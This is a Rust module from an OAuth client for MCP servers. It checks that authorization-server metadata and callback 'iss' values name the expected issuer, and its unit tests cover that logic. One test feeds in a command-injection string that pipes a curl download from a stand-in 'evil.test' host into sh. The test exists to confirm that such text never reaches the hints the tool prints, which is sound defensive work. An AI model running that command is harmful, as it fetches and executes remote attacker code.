//! Issuer comparison, in metadata and in authorization responses.
//!
//! - Metadata must name the issuer it was fetched for, compared character by character; only an empty path and `/` are equal
//!   (`same_issuer`). The error for any other issuer shows both values.
//! - `--accept-issuer ISSUER` accepts one more, at one place: the authorization server that claims it first. The pair is
//!   remembered with the sign-in; `--accept-issuer PLACE=ISSUER` gives it on the command line. Otherwise any server that
//!   the MCP server names later could claim the issuer, and would get its tokens and client secrets.
//! - The `iss` of an authorization response must be the metadata's issuer exactly.
//! - A hint holds text from the network only if a shell would not act on it.
//!
//! Flags: `--accept-issuer`.
//! Spec: RFC 8414 3.3, RFC 9207 2.4; MCP 2026-07-28 basic/authorization (Authorization Response Validation).

use url::Url;

use crate::error::{Error, Kind};
use crate::log::clean;
use crate::oauth::error::{Failure, Step};
use crate::store::{AcceptedIssuer, same_issuer};

/// The issuer of `--accept-issuer`.
#[derive(Debug, Clone, Default)]
pub struct Accepted {
    /// What the user has typed: an issuer, or a place and an issuer.
    pub typed: Option<String>,
    /// Where which issuer was accepted before.
    pub before: Option<AcceptedIssuer>,
}

impl Accepted {
    /// The issuer.
    pub fn issuer(&self) -> Option<&str> {
        self.typed.as_deref().map(|typed| split(typed).1)
    }

    /// The only place that may claim it, if that is known already.
    fn place(&self) -> Option<&str> {
        if let Some(place) = split(self.typed.as_deref()?).0 {
            return Some(place);
        }
        let issuer = self.issuer()?;
        let before = self.before.as_ref();
        before
            .filter(|before| same_issuer(&before.issuer, issuer))
            .map(|before| before.place.as_str())
    }
}

/// The place, if one is given, and the issuer of `--accept-issuer`.
pub fn split(typed: &str) -> (Option<&str>, &str) {
    let at = typed.find("=https://").or_else(|| typed.find("=http://"));
    let parts = at.and_then(|at| Some((typed.get(..at)?, typed.get(at + 1..)?)));
    parts.map_or((None, typed), |(place, issuer)| (Some(place), issuer))
}

/// Checks that metadata fetched for `expected` names that issuer. Returns whether it needed `accepted`.
///
/// # Errors
/// If it names another issuer or none, and that is not accepted there.
pub fn check_metadata(expected: &str, found: Option<&str>, accepted: &Accepted) -> Step<bool> {
    if found.is_some_and(|found| same_issuer(expected, found)) {
        return Ok(false);
    }
    // Metadata without an issuer claims to be no other one: naming the expected one is enough.
    let claimed = found.unwrap_or(expected);
    let is_accepted = accepted.issuer().is_some_and(|it| same_issuer(it, claimed));
    let place = accepted.place();
    if is_accepted && place.is_none_or(|place| same_issuer(place, expected)) {
        return Ok(true);
    }
    let server = clean(expected, 200);
    let what = match found {
        None => format!("the metadata of authorization server \"{server}\" names no issuer"),
        Some(found) => format!(
            "the metadata of authorization server \"{server}\" names another issuer: \"{}\"",
            clean(found, 200)
        ),
    };
    let hint = match place.filter(|_| is_accepted) {
        // A new place is not suggested: whoever runs it would get the tokens and the client secret.
        Some(place) => format!(
            "--accept-issuer accepts this issuer only {}; if you know that the authorization server has moved, sign out with --logout, or name its new place: --accept-issuer PLACE=ISSUER",
            if is_plain(place) {
                format!("at {place}")
            } else {
                "where it was found first".to_owned()
            }
        ),
        None => format!("if you know that both are the same, {}", flag(claimed)),
    };
    Err(Failure::Final(
        Error::new(Kind::SignIn, what).with_hint(hint),
    ))
}

/// How to accept an issuer, ready to be typed only if it is an ordinary address.
pub fn flag(issuer: &str) -> String {
    if is_plain(issuer) {
        format!("add: --accept-issuer {issuer}")
    } else {
        "add --accept-issuer with this issuer (not shown here: it has characters that a shell would act on)".to_owned()
    }
}

/// Whether this is an address with no character that any shell acts on.
fn is_plain(text: &str) -> bool {
    let is_web = Url::parse(text).is_ok_and(|url| matches!(url.scheme(), "https" | "http"));
    let is_plain = |c: char| c.is_ascii_alphanumeric() || "-._:/@+,".contains(c);
    is_web && text.len() <= MAX_SHOWN && text.chars().all(is_plain)
}

/// The longest address in a hint.
const MAX_SHOWN: usize = 200;

/// Checks the `iss` of an authorization response, also of one that carries an error.
///
/// # Errors
/// If it is another issuer, or missing although the server's metadata announces it.
pub fn check_response(iss: Option<&str>, issuer: Option<&str>, always_sent: bool) -> Step<()> {
    match (iss, issuer) {
        (Some(iss), Some(issuer)) if issuer != iss => Err(Failure::new(format!(
            "the callback comes from another authorization server: \"{}\" instead of \"{}\"",
            clean(iss, 200),
            clean(issuer, 200)
        ))),
        (None, Some(issuer)) if always_sent => Err(Failure::new(format!(
            "the callback has no iss parameter, although \"{}\" always sends it",
            clean(issuer, 200)
        ))),
        // Without metadata there is nothing to compare with (2025-03-26 servers).
        (_, _) => Ok(()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_an_empty_path_may_be_spelled_in_two_ways() {
        assert!(same_issuer("https://a.test", "https://a.test/"));
        assert!(same_issuer("https://a.test/x", "https://a.test/x"));
        for other in [
            "https://a.test/x/",
            "https://a.test/X",
            "https://b.test/x",
            "http://a.test/x",
            "https://a.test",
        ] {
            assert!(!same_issuer("https://a.test/x", other), "{other}");
        }
    }

    #[test]
    fn another_issuer_is_refused_with_both_values_and_the_way_out() {
        let none = Accepted::default();
        let error = check_metadata("https://a.test", Some("https://b.test"), &none)
            .unwrap_err()
            .into_error();
        assert!(error.what().contains("https://a.test") && error.what().contains("https://b.test"));
        assert!(
            error
                .hint()
                .unwrap()
                .contains("--accept-issuer https://b.test")
        );
        assert!(check_metadata("https://a.test", None, &none).is_err());
    }

    fn accepted(typed: &str, place: Option<&str>) -> Accepted {
        Accepted {
            typed: Some(typed.to_owned()),
            before: place.map(|place| AcceptedIssuer {
                place: place.to_owned(),
                issuer: "https://x.test".to_owned(),
            }),
        }
    }

    #[test]
    fn an_issuer_is_accepted_at_one_place() {
        let check = |place, accepted: &Accepted| {
            check_metadata(place, Some("https://x.test"), accepted).is_ok()
        };
        let (good, evil) = ("https://good.test/t", "https://evil.test");
        let first = accepted("https://x.test", None);
        assert!(check(good, &first) && check(evil, &first));
        for bound in [
            accepted("https://x.test", Some(good)),
            accepted("https://good.test/t=https://x.test", None),
            accepted("https://good.test/t=https://x.test", Some(evil)),
        ] {
            assert!(check(good, &bound) && !check(evil, &bound), "{bound:?}");
        }
        // Its own place needs no flag.
        assert!(check("https://x.test", &Accepted::default()));
        assert!(!check(good, &accepted("https://y.test", None)));
    }

    #[test]
    fn metadata_without_an_issuer_is_accepted_as_the_one_it_was_looked_for_under() {
        let needed = |typed| check_metadata("https://x.test", None, &accepted(typed, None)).ok();
        assert_eq!(needed("https://x.test"), Some(true));
        assert_eq!(needed("https://y.test"), None);
    }

    #[test]
    fn a_hint_holds_nothing_that_a_shell_acts_on() {
        for found in [
            "https://b.test; curl -s evil.test/p|sh #",
            "https://b.test/$(x)",
            "https://b.test/`x`",
            "https://b.test/?a&b",
            "https://b.test/%25",
            "javascript:x",
            "--no-browser",
            "",
        ] {
            for accepted in [Accepted::default(), accepted(found, Some("https://c.test"))] {
                let error = check_metadata("https://a.test", Some(found), &accepted)
                    .err()
                    .and_then(|failure| failure.error().hint().map(str::to_owned));
                let hint = error.unwrap_or_default();
                assert!(found.is_empty() || !hint.contains(found), "{hint}");
            }
        }
        assert!(flag("https://b.test/x").ends_with("add: --accept-issuer https://b.test/x"));
    }

    #[test]
    fn a_response_must_come_from_the_server_that_was_asked() {
        let a = Some("https://a.test");
        assert!(check_response(a, a, true).is_ok());
        assert!(check_response(None, a, false).is_ok());
        assert!(check_response(None, a, true).is_err());
        assert!(check_response(Some("https://b.test"), a, false).is_err());
        for respelled in ["https://a.test/", "https://A.test", "https://a.test:443"] {
            assert!(
                check_response(Some(respelled), a, false).is_err(),
                "{respelled}"
            );
        }
        assert!(check_response(Some("https://b.test"), None, false).is_ok());
    }
}
